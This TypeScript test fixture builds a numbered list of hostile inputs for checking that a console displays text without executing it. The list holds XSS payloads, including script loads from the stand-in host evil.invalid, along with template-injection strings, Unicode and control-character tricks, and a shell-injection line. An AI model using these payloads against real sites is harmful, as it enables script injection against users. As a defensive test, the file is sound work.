/** Where a payload would report to if it ran; nobody is there, and no request may leave for it. */
const away = 'https://evil.invalid';

/** What a payload does when a page takes it for more than a text: `owned` is a list that the page under test holds. */
const act = (no: number): string => `owned.push(${no})`;

const patterns: readonly ((no: number) => string)[] = [
  // Markup that runs something by itself.
  (no) => `<script>${act(no)}</script>`,
  (no) => `<script src="${away}/${no}.js"></script>`,
  (no) => `<script type=module>import('${away}/${no}.mjs')</script>`,
  (no) => `"><script>${act(no)}</script>`,
  (no) => `'"--></style></script><script>${act(no)}</script>`,
  (no) => `<ScRiPt >${act(no)}</sCrIpT >`,
  (no) => `<scr<script>ipt>${act(no)}</scr</script>ipt>`,
  (no) => `<svg><script>${act(no)}</script></svg>`,
  (no) => `<svg onload=${act(no)}>`,
  (no) => `<svg/onload=${act(no)}//`,
  (no) => `<img src=x onerror=${act(no)}>`,
  (no) => `<img src="${away}/${no}.png">`,
  (no) => `<img/src=x onerror="${act(no)}"/>`,
  (no) => `<img src=x:x onerror\u0000=${act(no)}>`,
  (no) => `<image href=x onerror=${act(no)}>`,
  (no) => `<body onload=${act(no)}>`,
  (no) => `<iframe src="javascript:${act(no)}"></iframe>`,
  (no) => `<iframe srcdoc="<script>parent.${act(no)}</script>"></iframe>`,
  (no) => `<object data="javascript:${act(no)}"></object>`,
  (no) => `<embed src="javascript:${act(no)}">`,
  (no) => `<video><source onerror=${act(no)}></video>`,
  (no) => `<audio src=x onerror=${act(no)}>`,
  (no) => `<details open ontoggle=${act(no)}>`,
  (no) => `<marquee onstart=${act(no)}>`,
  (no) => `<math><mtext><table><mglyph><style><img src=x onerror=${act(no)}>`,
  (no) => `<template><img src=x onerror=${act(no)}></template>`,
  (no) => `<noscript><p title="</noscript><img src=x onerror=${act(no)}>">`,
  (no) => `<link rel=stylesheet href="${away}/${no}.css">`,
  (no) => `<style>@import '${away}/${no}.css';</style>`,
  () => `<base href="${away}/">`,
  (no) => `<meta http-equiv=refresh content="0;url=${away}/${no}">`,
  (no) => `<form action="${away}/${no}"><input type=submit autofocus onfocus=${act(no)}></form>`,
  // Attributes and addresses, for places that quote them badly.
  (no) => `" onmouseover="${act(no)}" autofocus onfocus="${act(no)}`,
  (no) => `' onclick='${act(no)}' x='`,
  (no) => `x" style="background:url(${away}/${no})`,
  (no) => `javascript:${act(no)}`,
  (no) => `java\u0009script:${act(no)}`,
  (no) => `data:text/html,<script>opener.${act(no)}</script>`,
  (no) => `//evil.invalid/${no}`,
  (no) => `[click](javascript:${act(no)})`,
  (no) => `![x](${away}/${no}.png)`,
  // The languages of templates.
  (no) => `{{${act(no)}}}`,
  (no) => `{{constructor.constructor('${act(no)}')()}}`,
  (no) => `\${${act(no)}}`,
  (no) => `#{${act(no)}}`,
  (no) => `<%= ${act(no)} %>`,
  (no) => `{% if true %}${act(no)}{% endif %}`,
  () => '$t(runs.title) {{count}} {{- no}}',
  () => '%s %d %o %c {0} :name __proto__ constructor',
  // What changes how other text is read.
  () => '\u202Egnp.exe\u202C evil\u2066right\u2069',
  () => 'مرحبا بالعالم שלום עולם abc',
  () => '\u200B\u200D\uFEFFinvisible\u00AD\u2028line\u2029paragraph',
  () => 'bell\u0007 back\u0008\u0008space escape\u001B[31mred\u001B]0;title\u0007 del\u007F c1\u009B31m',
  () => 'first\r\nsecond\nthird\ttab',
  () => 'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!͖̬̰̙̗̿̋ͥͥ̂ͣ̐́́͜͞',
  () => '👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿🇪🇺\u{1F4A9}'.repeat(6),
  () => 'lone \uD800 surrogate \uDFFF',
  () => '&lt;b&gt;&amp;&#x3C;img src=x&#x3E;&nbsp;',
  () => 'Ω'.repeat(256),
  () => '-rf --help; $(touch owned) `id` | & > /dev/null',
];

/** Texts that a console must show and never obey, each with its own number. */
export const hostileTexts: readonly string[] = patterns.map((text, no) => text(no));

/** Ten kilobytes without a place to break, and ten with markup. */
export const longTexts: readonly string[] = ['x'.repeat(10_240), '<b onmouseover=owned.push(0)>'.repeat(354)];
